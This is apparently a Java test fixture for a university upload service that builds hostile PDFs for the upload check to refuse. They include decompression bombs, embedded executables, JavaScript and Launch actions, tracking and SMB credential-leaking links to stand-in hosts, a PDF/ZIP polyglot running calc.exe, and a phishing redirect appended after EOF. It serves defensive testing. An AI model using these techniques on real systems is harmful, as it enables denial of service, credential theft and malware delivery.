package fr.univlorraine.ieps.documents;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSStream;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.common.filespecification.PDSimpleFileSpecification;
import org.apache.pdfbox.pdmodel.interactive.action.PDAction;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionImportData;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionRemoteGoTo;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionSubmitForm;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionURI;
import org.apache.pdfbox.pdmodel.interactive.action.PDPageAdditionalActions;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationFileAttachment;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
import org.apache.pdfbox.pdmodel.interactive.form.PDAcroForm;

/**
 * Hostile PDFs the tests build themselves, one per trick the upload check refuses, and the harmless
 * look-alikes it must accept (a CV with web links, a LaTeX document that opens on its first page).
 */
public final class HostilePdfs {

    private static final COSName FIT = COSName.getPDFName("Fit");

    private HostilePdfs() {
    }

    /** Changes a plain one-page PDF before it is saved. */
    @FunctionalInterface
    public interface Change {
        void apply(PDDocument document) throws IOException;
    }

    /** A plain one-page PDF (the fixtures' text page) changed by {@code change}. */
    public static byte[] with(Change change) throws IOException {
        try (PDDocument document = Loader.loadPDF(Fixtures.pdf(1)); var out = new ByteArrayOutputStream()) {
            change.apply(document);
            document.save(out);
            return out.toByteArray();
        }
    }

    /**
     * The compression bomb of the security report: {@code pages} pages sharing one content stream of
     * {@code inflatedBytes} spaces, deflated (100 MB become about 100 KB).
     */
    public static byte[] bomb(int pages, long inflatedBytes) throws IOException {
        try (PDDocument document = new PDDocument(); var out = new ByteArrayOutputStream()) {
            COSStream content = document.getDocument().createCOSStream();
            try (OutputStream raw = content.createRawOutputStream();
                    var deflate = new DeflaterOutputStream(raw, new Deflater(Deflater.BEST_COMPRESSION), 64 * 1024)) {
                byte[] spaces = new byte[1 << 20];
                java.util.Arrays.fill(spaces, (byte) ' ');
                for (long written = 0; written < inflatedBytes; written += spaces.length) {
                    deflate.write(spaces, 0, (int) Math.min(spaces.length, inflatedBytes - written));
                }
            }
            content.setItem(COSName.FILTER, COSName.FLATE_DECODE);
            for (int i = 0; i < pages; i++) {
                PDPage page = new PDPage(PDRectangle.A4);
                page.getCOSObject().setItem(COSName.CONTENTS, content);
                document.addPage(page);
            }
            document.save(out);
            return out.toByteArray();
        }
    }

    /** {@code pages} empty pages. */
    public static byte[] pages(int pages) throws IOException {
        try (PDDocument document = new PDDocument(); var out = new ByteArrayOutputStream()) {
            for (int i = 0; i < pages; i++) {
                document.addPage(new PDPage(PDRectangle.A4));
            }
            document.save(out);
            return out.toByteArray();
        }
    }

    /** An AcroForm carrying an XFA form (the dynamic forms only Adobe Reader shows). */
    public static byte[] xfa() throws IOException {
        return with(document -> {
            PDAcroForm form = new PDAcroForm(document);
            COSStream xfa = document.getDocument().createCOSStream();
            try (OutputStream out = xfa.createOutputStream()) {
                out.write(ascii("<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"><template/></xdp:xdp>"));
            }
            form.getCOSObject().setItem(COSName.XFA, xfa);
            document.getDocumentCatalog().setAcroForm(form);
        });
    }

    /** A "setup.exe" attached in the document's EmbeddedFiles name tree. */
    public static byte[] embeddedExe() throws IOException {
        return with(document -> {
            PDComplexFileSpecification spec = new PDComplexFileSpecification();
            spec.setFile("setup.exe");
            spec.setFileUnicode("setup.exe");
            spec.setEmbeddedFile(new PDEmbeddedFile(document, new ByteArrayInputStream(Fixtures.windowsExecutable())));
            PDEmbeddedFilesNameTreeNode files = new PDEmbeddedFilesNameTreeNode();
            files.setNames(Map.of("setup.exe", spec));
            PDDocumentNameDictionary names = new PDDocumentNameDictionary(document.getDocumentCatalog());
            names.setEmbeddedFiles(files);
            document.getDocumentCatalog().setNames(names);
        });
    }

    /** The same executable behind a paper-clip annotation on the page, without the name tree. */
    public static byte[] attachmentAnnotation() throws IOException {
        return with(document -> {
            PDComplexFileSpecification spec = new PDComplexFileSpecification();
            spec.setFile("facture.exe");
            spec.setEmbeddedFile(new PDEmbeddedFile(document, new ByteArrayInputStream(Fixtures.windowsExecutable())));
            PDAnnotationFileAttachment clip = new PDAnnotationFileAttachment();
            clip.setRectangle(new PDRectangle(72, 700, 20, 20));
            clip.setFile(spec);
            document.getPage(0).getAnnotations().add(clip);
        });
    }

    public static byte[] openActionJavaScript() throws IOException {
        return with(document -> document.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.alert('hello');")));
    }

    public static byte[] launch() throws IOException {
        return with(document -> {
            PDActionLaunch launch = new PDActionLaunch();
            PDSimpleFileSpecification program = new PDSimpleFileSpecification();
            program.setFile("cmd.exe");
            launch.setFile(program);
            link(document, launch);
        });
    }

    public static byte[] submitForm() throws IOException {
        return with(document -> {
            PDActionSubmitForm submit = new PDActionSubmitForm();
            PDSimpleFileSpecification target = new PDSimpleFileSpecification();
            target.setFile("https://collect.example.net/form");
            submit.setFile(target);
            link(document, submit);
        });
    }

    public static byte[] importData() throws IOException {
        return with(document -> {
            PDActionImportData importData = new PDActionImportData();
            PDSimpleFileSpecification source = new PDSimpleFileSpecification();
            source.setFile("\\\\server\\share\\data.fdf");
            importData.setFile(source);
            link(document, importData);
        });
    }

    public static byte[] goToR() throws IOException {
        return with(document -> {
            PDActionRemoteGoTo remote = new PDActionRemoteGoTo();
            PDSimpleFileSpecification other = new PDSimpleFileSpecification();
            other.setFile("file:///C:/Users/Public/other.pdf");
            remote.setFile(other);
            remote.getCOSObject().setItem(COSName.D, new COSArray(List.of(org.apache.pdfbox.cos.COSInteger.ZERO, FIT)));
            link(document, remote);
        });
    }

    /** Opens a web page as soon as the PDF is opened: no click, so refused although the address is https. */
    public static byte[] openActionUri() throws IOException {
        return with(document -> document.getDocumentCatalog().setOpenAction(uri("https://tracker.example.net/opened")));
    }

    /** Page additional actions: a web page fetched when the page is shown. */
    public static byte[] pageAdditionalActions() throws IOException {
        return with(document -> {
            PDPageAdditionalActions actions = new PDPageAdditionalActions();
            actions.getCOSObject().setItem(COSName.O, uri("https://tracker.example.net/page"));
            document.getPage(0).setActions(actions);
        });
    }

    /** A link to a network share: clicking it would hand the Windows credentials to that server. */
    public static byte[] smbLink() throws IOException {
        return with(document -> link(document, uri("smb://files.example.net/share/cv.exe")));
    }

    public static byte[] fileLink() throws IOException {
        return with(document -> link(document, uri("file:///C:/Windows/System32/cmd.exe")));
    }

    /** A PDF followed by a ZIP archive whose comment is "%%EOF": the file ends like a PDF and opens as a ZIP. */
    public static byte[] zipPolyglot() throws IOException {
        var out = new ByteArrayOutputStream();
        out.write(Fixtures.pdf(1));
        var zip = new ByteArrayOutputStream();
        try (ZipOutputStream archive = new ZipOutputStream(zip)) {
            archive.putNextEntry(new ZipEntry("payload.js"));
            archive.write(ascii("WScript.Shell.Run('calc.exe');"));
            archive.closeEntry();
            archive.setComment("%%EOF");
        }
        out.write(zip.toByteArray());
        return out.toByteArray();
    }

    /** Something written after the PDF's end marker. */
    public static byte[] appendedData() throws IOException {
        var out = new ByteArrayOutputStream();
        out.write(Fixtures.pdf(1));
        out.write(ascii("<html><body><script>document.location='https://phish.example.net/'</script></body></html>\n"));
        return out.toByteArray();
    }

    /** A CV as Word exports it: web and e-mail links the reader clicks. */
    public static byte[] webLinks() throws IOException {
        return with(document -> {
            link(document, uri("https://www.univ-lorraine.fr/"));
            link(document, uri("mailto:chloe.lefevre@example.org"));
        });
    }

    /** What LaTeX (hyperref) writes: open on the first page, fitted to the window. */
    public static byte[] latexOpenAction() throws IOException {
        return with(document -> {
            COSArray destination = new COSArray();
            destination.add(document.getPage(0).getCOSObject());
            destination.add(FIT);
            document.getDocumentCatalog().getCOSObject().setItem(COSName.OPEN_ACTION, destination);
            link(document, uri("https://hal.science/"));
        });
    }

    /**
     * A PDF written by hand whose catalog and page tree sit in an object stream padded with
     * {@code inflatedBytes} spaces: PDFBox inflates that stream whole, into memory, as soon as it opens
     * the file to find the catalog (the cross-reference stream says where the objects are).
     */
    public static byte[] objectStreamBomb(long inflatedBytes) throws IOException {
        var pdf = new ByteArrayOutputStream();
        long[] offsets = new long[7];
        pdf.write(ascii("%PDF-1.7\n"));
        offsets[3] = pdf.size();
        pdf.write(ascii("3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << >> >>\nendobj\n"));
        offsets[4] = pdf.size();
        byte[] content = ascii("0 0 m 100 100 l S\n");
        pdf.write(ascii("4 0 obj\n<< /Length " + content.length + " >>\nstream\n"));
        pdf.write(content);
        pdf.write(ascii("\nendstream\nendobj\n"));

        String catalog = "<< /Type /Catalog /Pages 2 0 R >>";
        String pages = "<< /Type /Pages /Kids [3 0 R] /Count 1 >>";
        String header = "1 0 2 " + (catalog.length() + 1) + " ";
        var packed = new ByteArrayOutputStream();
        try (var deflate = new DeflaterOutputStream(packed, new Deflater(Deflater.BEST_COMPRESSION), 64 * 1024)) {
            deflate.write(ascii(header + catalog + " " + pages + " "));
            byte[] spaces = new byte[1 << 20];
            java.util.Arrays.fill(spaces, (byte) ' ');
            for (long written = 0; written < inflatedBytes; written += spaces.length) {
                deflate.write(spaces, 0, (int) Math.min(spaces.length, inflatedBytes - written));
            }
        }
        offsets[5] = pdf.size();
        pdf.write(ascii("5 0 obj\n<< /Type /ObjStm /N 2 /First " + header.length() + " /Filter /FlateDecode /Length "
                + packed.size() + " >>\nstream\n"));
        pdf.write(packed.toByteArray());
        pdf.write(ascii("\nendstream\nendobj\n"));

        offsets[6] = pdf.size();
        var entries = new ByteArrayOutputStream();
        entry(entries, 0, 0, 65535);
        entry(entries, 2, 5, 0);
        entry(entries, 2, 5, 1);
        for (int object = 3; object <= 6; object++) {
            entry(entries, 1, offsets[object], 0);
        }
        pdf.write(ascii("6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length " + entries.size() + " >>\nstream\n"));
        pdf.write(entries.toByteArray());
        pdf.write(ascii("\nendstream\nendobj\nstartxref\n" + offsets[6] + "\n%%EOF\n"));
        return pdf.toByteArray();
    }

    private static void entry(ByteArrayOutputStream out, int type, long field2, int field3) {
        out.write(type);
        for (int shift = 24; shift >= 0; shift -= 8) {
            out.write((int) (field2 >>> shift) & 0xFF);
        }
        out.write(field3 >>> 8 & 0xFF);
        out.write(field3 & 0xFF);
    }

    static PDActionURI uri(String address) {
        PDActionURI uri = new PDActionURI();
        uri.setURI(address);
        return uri;
    }

    static void link(PDDocument document, PDAction action) throws IOException {
        PDAnnotationLink link = new PDAnnotationLink();
        link.setRectangle(new PDRectangle(72, 700, 200, 20));
        link.setAction(action);
        document.getPage(0).getAnnotations().add(link);
    }

    static byte[] ascii(String text) {
        return text.getBytes(StandardCharsets.US_ASCII);
    }
}
